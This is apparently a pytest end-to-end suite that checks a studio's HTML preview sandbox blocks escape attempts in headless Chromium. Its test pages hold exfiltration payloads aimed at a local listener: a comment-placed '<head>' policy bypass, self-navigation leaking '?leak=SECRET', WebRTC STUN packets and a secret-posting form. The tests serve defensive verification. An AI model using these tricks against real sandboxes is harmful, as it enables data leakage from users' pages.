"""A generated page trying to get out of the preview (issue 31), and a page with a form running in
it (issue 32, item 1), in headless Chromium the way the studio shows a preview (preview_kit.Host),
with listeners on 127.0.0.1 that record every connection, byte and UDP packet that reaches them.

Each prints a `[preview]` line with what was tried and what reached the listeners
(RELIABILITY.md quotes them).
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator

import pytest

from smol_core.studio.preview import build_preview
from tests.e2e.drive import chromium, need_chromium, wait_until
from tests.preview_kit import Host, page_frame

pytestmark = pytest.mark.e2e


class Listener:
    """TCP and UDP on 127.0.0.1: every connection accepted, what each sent, every datagram."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(50)
        self.tcp.settimeout(0.1)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.1)
        self.udp_port = self.udp.getsockname()[1]
        self.connections = 0
        self.sent: list[bytes] = []  # what each connection sent (b"" for none)
        self.datagrams: list[bytes] = []
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=f, daemon=True) for f in (self._tcp, self._udp)]
        for t in self.threads:
            t.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def requests(self) -> list[str]:
        """The first line of every connection that sent anything (an HTTP request line)."""
        return [b.split(b"\r\n")[0].decode("latin-1") for b in self.sent if b]

    def _tcp(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                continue
            self.connections += 1
            threading.Thread(target=self._read, args=(conn,), daemon=True).start()

    def _read(self, conn: socket.socket) -> None:
        index = len(self.sent)
        self.sent.append(b"")
        conn.settimeout(0.2)
        with conn:
            while not self.stop.is_set():
                try:
                    chunk = conn.recv(4096)
                except TimeoutError:
                    continue
                except OSError:
                    break
                if not chunk:
                    break
                self.sent[index] += chunk
                if b"\r\n\r\n" in self.sent[index]:
                    with contextlib.suppress(OSError):
                        conn.sendall(
                            b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\n"
                            b"content-length: 6\r\nconnection: close\r\n\r\nleaked"
                        )
                    break

    def _udp(self) -> None:
        while not self.stop.is_set():
            try:
                self.datagrams.append(self.udp.recvfrom(4096)[0])
            except OSError:
                continue

    def close(self) -> None:
        self.stop.set()
        for t in self.threads:
            t.join(2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def browser():
    need_chromium()
    with chromium() as b:
        yield b


@pytest.fixture()
def listener() -> Iterator[Listener]:
    made = Listener()
    try:
        yield made
    finally:
        made.close()


@contextlib.contextmanager
def shown(browser, page_html: str) -> Iterator[tuple[object, object]]:
    """The page as the studio previews it: (the host's tab, the page's own frame)."""
    host = Host(build_preview("index.html", {"index.html": page_html}).html)
    tab = browser.new_page()
    console: list[str] = []
    tab.on("console", lambda m: console.append(m.text))
    tab.console_messages = console  # type: ignore[attr-defined]
    try:
        tab.goto(host.url)
        yield tab, page_frame(tab)
    finally:
        tab.close()
        host.close()


def reports(tab) -> list[dict]:
    return [m for m in tab.evaluate("window.msgs") if isinstance(m, dict)]


# ------------------------------------------------------------------------------ escapes
def test_a_head_written_in_a_comment_does_not_switch_the_policy_off(browser, listener):
    """Issue 31: the policy went after the first `<head` match, so `<!-- <head> -->` before the
    real head left an image, an external script and a fetch free to reach 127.0.0.1."""
    page = (
        f"<!-- <head> --><!DOCTYPE html><html><head><title>t</title>"
        f'<img src="{listener.url}/image.png">'
        f'<script src="{listener.url}/script.js"></script>'
        f'<script>fetch("{listener.url}/fetch").then(() => document.title = "fetched")'
        f'.catch(() => document.title = "refused");</script>'
        f'<link rel="stylesheet" href="{listener.url}/style.css">'
        f"</head><body><p id=done>shown</p></body></html>"
    )
    with shown(browser, page) as (tab, frame):
        frame.locator("#done").wait_for()
        wait_until(
            lambda: frame.evaluate("document.title") in ("fetched", "refused"),
            5,
            "the fetch to end",
        )
        tab.wait_for_timeout(500)
        blocked = [m for m in reports(tab) if m.get("kind") == "blocked"]
        title = frame.evaluate("document.title")
    assert listener.requests() == [] and title == "refused", (listener.requests(), title)
    assert len(blocked) >= 3, blocked  # the image, the script, the fetch (and the stylesheet)
    print(
        f"\n[preview] `<!-- <head> -->` before the real head: 4 requests tried (image, script, "
        f"fetch, stylesheet); 0 reached 127.0.0.1, {len(blocked)} reported as refused"
    )


@pytest.mark.parametrize("how", ["location.href", "location.replace", "meta refresh"])
def test_the_page_can_not_navigate_itself_to_the_network(browser, listener, how):
    """Issue 31: `location.href = "http://…?leak=…"` reached the network, and the new document
    had no policy."""
    target = f"{listener.url}/?leak=SECRET"
    go = {
        "location.href": f'location.href = "{target}";',
        "location.replace": f'location.replace("{target}");',
        "meta refresh": (
            'const m = document.createElement("meta"); m.httpEquiv = "refresh"; '
            f'm.content = "0;url={target}"; document.head.appendChild(m);'
        ),
    }[how]
    page = (
        "<p id=start>the page</p><script>if (window.name !== 'left') {"  # once: shown again,
        f" window.name = 'left'; setTimeout(() => {{ {go} }}, 200); }}</script>"
    )  # it stays
    with shown(browser, page) as (tab, _frame):
        told = wait_until(  # the studio told, or the request made
            lambda: (
                listener.requests()
                or [m for m in reports(tab) if "another address" in m.get("message", "")]
            ),
            8,
            "the preview to say the page tried to leave",
        )
        assert listener.requests() == [], listener.requests()
        again = page_frame(tab)
        wait_until(lambda: again.locator("#start").count() == 1, 5, "the page shown again")
        tab.wait_for_timeout(300)
        said = told
    assert listener.requests() == [] and b"SECRET" not in b"".join(listener.sent)
    print(
        f"\n[preview] navigates itself ({how}) to 127.0.0.1: 0 requests, 0 bytes reached it "
        f"(Chromium's own preconnect opened {listener.connections} empty connection(s)); the "
        f"studio was told ({said[0]['kind']}) and the page shown again"
    )


def test_webrtc_sends_no_packet(browser, listener):
    """Issue 31: WebRTC sent UDP packets to 127.0.0.1 (a STUN server given by the page)."""
    ice = f'{{iceServers: [{{urls: "stun:127.0.0.1:{listener.udp_port}"}}]}}'
    page = f"""<p id=out>waiting</p><iframe id=child></iframe><script>
const tried = [];
const attempt = (name, make) => {{
  try {{
    const pc = make();
    pc.createDataChannel("x");
    pc.createOffer().then((o) => pc.setLocalDescription(o));
    tried.push(name + ": made");
  }} catch (e) {{ tried.push(name + ": refused"); }}
}};
attempt("window", () => new RTCPeerConnection({ice}));
attempt("webkit", () => new webkitRTCPeerConnection({ice}));
attempt("a nested frame", () => new (document.getElementById("child").contentWindow
                                     .RTCPeerConnection)({ice}));
attempt("window[0]", () => new window[0].RTCPeerConnection({ice}));
document.getElementById("out").textContent = tried.join("; ");
</script>"""
    with shown(browser, page) as (_tab, frame):
        wait_until(lambda: frame.locator("#out").inner_text() != "waiting", 5, "the attempts")
        said = frame.locator("#out").inner_text()
        time.sleep(2.5)  # ICE gathering sends its STUN requests within a second when it can
    assert "made" not in said, said
    assert listener.datagrams == [], f"{len(listener.datagrams)} UDP packets reached 127.0.0.1"
    print(
        f"\n[preview] WebRTC to a STUN server on 127.0.0.1: 4 ways tried ({said}); 0 UDP "
        f"packets reached it"
    )


# ---------------------------------------------------------------------------- forms (issue 32)
DAYS = """<!DOCTYPE html><html><head><title>Days</title></head><body>
<form id="when"><label>Date <input id="date" type="date" value="2026-12-25"></label>
<button id="count" type="submit">Count the days</button></form>
<p id="result">no result yet</p>
<script>
document.getElementById("when").addEventListener("submit", (event) => {
  event.preventDefault();
  const then = new Date(document.getElementById("date").value + "T00:00:00Z");
  const days = Math.round((then - Date.UTC(2026, 11, 1)) / 86400000);
  document.getElementById("result").textContent = days + " days";
});
</script></body></html>"""


def test_a_page_with_a_form_runs_its_submit_handler_in_the_preview(browser, listener):
    """Issue 32: the frame blocked form submission ("'allow-forms' permission is not set"), so
    the page's own submit handler never ran, and no error came back."""
    with shown(browser, DAYS) as (tab, frame):
        frame.locator("#count").click()
        wait_until(
            lambda: frame.locator("#result").inner_text() == "24 days",
            5,
            "the submit handler's answer",
        )
        tab.wait_for_timeout(300)
        blocked = [t for t in tab.console_messages if "Blocked form submission" in t]
        said = reports(tab)
    assert not blocked and said == [], (blocked, said)
    assert listener.connections == 0
    print(
        "\n[preview] a form page: its submit handler ran on the first click (24 days), no "
        "error, nothing sent"
    )


def test_a_form_nobody_stops_is_not_sent_and_the_page_stays(browser, listener):
    page = (
        f'<form id=f action="{listener.url}/send" method=post><input name=secret '
        f"value=SECRET><button id=go>Send</button></form><p id=seen>not yet</p><script>"
        f'document.getElementById("f").addEventListener("submit", () => '
        f'{{ document.getElementById("seen").textContent = "handler ran"; }});</script>'
    )
    with shown(browser, page) as (tab, frame):
        frame.locator("#go").click()
        wait_until(lambda: frame.locator("#seen").inner_text() == "handler ran", 5, "the handler")
        said = wait_until(
            lambda: [m for m in reports(tab) if m.get("kind") == "form"],
            5,
            "the preview to say the form was not sent",
        )
        tab.wait_for_timeout(500)
        assert page_frame(tab).locator("#seen").inner_text() == "handler ran"  # not reloaded
    assert listener.requests() == [] and b"SECRET" not in b"".join(listener.sent)
    assert "/send" in said[0]["message"]
    print(
        "\n[preview] a form its page does not stop, posting to 127.0.0.1: its handler ran, "
        "0 requests reached it, the studio was told, the page stayed"
    )
